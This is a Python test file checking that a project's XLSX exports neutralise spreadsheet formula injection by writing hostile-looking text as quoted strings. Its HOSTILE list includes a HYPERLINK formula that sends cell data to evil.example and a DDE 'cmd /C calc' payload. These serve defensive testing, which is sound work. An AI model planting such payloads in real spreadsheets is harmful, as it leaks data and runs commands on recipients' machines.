"""Issue 21, item 3: no formula in any export. Text starting with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return is written as a string cell (quote prefix), in every XLSX export: the
incentive statement (CLI; the page uses the same writer), the weekly review's "Catatan" sheet
and the target report (CLI; the pages stream the same workbooks). SQLite and PostgreSQL."""

from __future__ import annotations

import ast
import json
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from cakupan.xlsx import FORMULA_LEADS, neutralise, new_workbook
from tests.integration.test_incentives_run import JHT, MONTH, Cli, Ledger
from tests.integration.test_incentives_run import ledger as ledger

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def _no_formulas(path: Path) -> None:
    """No ``<f>`` element in any sheet of the file, and every hostile text read back as text."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_LEADS):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    assert cell.quotePrefix, (sheet.title, cell.coordinate)


def test_statement_export_writes_a_formula_reference_as_text(
    ledger: Ledger, cli: Cli, tmp_path: Path
) -> None:
    nik = ledger.register("2025-01-05", JHT, partner="W1", agent="P1")
    ledger.pay(nik, MONTH[JHT], "2025-01-10", HOSTILE[0])
    assert cli("incentives", "run", "--period", "2025-01").exit_code == 0
    out = tmp_path / "p1.xlsx"
    done = cli("incentives", "export", "--period", "2025-01", "--partner", "P1", "-o", str(out))
    assert done.exit_code == 0, done.stderr
    _no_formulas(out)
    references = [row[3] for row in load_workbook(out).active.iter_rows(values_only=True)]
    assert HOSTILE[0] in references


def test_review_notes_and_report_sources_are_written_as_text(cli: Cli, tmp_path: Path) -> None:
    opened = cli(
        "reviews",
        "open",
        "--office",
        "PLG",
        "--week",
        "2026-11-04",
        "--held-on",
        "2026-11-06",
        "--json",
    )
    assert opened.exit_code == 0, opened.stderr
    review_id = str(json.loads(opened.stdout)["id"])
    for text in HOSTILE[:4]:
        noted = cli("reviews", "note", review_id, "--kind", "problem", "--text", text)
        assert noted.exit_code == 0, noted.stderr
    out = tmp_path / "review.xlsx"
    assert cli("reviews", "show", review_id, "--xlsx", str(out)).exit_code == 0
    _no_formulas(out)
    notes = [row[2] for row in load_workbook(out)["Catatan"].iter_rows(values_only=True)]
    assert [n for n in notes if n in HOSTILE] == HOSTILE[:4]

    cli("targets", "load-examples")
    set_target = cli(
        "targets",
        "set",
        "--office",
        "PLG",
        "--year",
        "2018",
        "--segment",
        "BPU",
        "--metric",
        "contributions",
        "--target",
        "1500000000",
        "--source",
        HOSTILE[1],
    )
    assert set_target.exit_code == 0, set_target.stderr
    report = tmp_path / "report.xlsx"
    assert (
        cli("targets", "report", "--office", "PLG", "--year", "2018", "--xlsx", str(report))
    ).exit_code == 0
    _no_formulas(report)


def test_the_helper_quotes_every_formula_lead(tmp_path: Path) -> None:
    book = new_workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([*HOSTILE, "Rp 1.000", 42, "a=b"])
    path = tmp_path / "x.xlsx"
    book.save(path)
    _no_formulas(path)
    values = next(load_workbook(path).active.iter_rows(values_only=True))
    # (XML reads a carriage return back as a line feed; still text, never a formula)
    assert list(values) == [*(h.replace("\r", "\n") for h in HOSTILE), "Rp 1.000", 42, "a=b"]
    assert neutralise(book) == len(HOSTILE)


def test_every_export_builds_its_workbook_with_the_helper() -> None:
    """No module but ``cakupan.xlsx`` creates an openpyxl ``Workbook`` (so every export saves
    through :class:`cakupan.xlsx.SafeWorkbook`)."""
    source = Path(__file__).resolve().parents[2] / "src" / "cakupan"
    offenders = []
    for path in source.rglob("*.py"):
        if path.name == "xlsx.py" and path.parent == source:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "id", None) == "Workbook":
                offenders.append(str(path.relative_to(source)))
    assert offenders == []
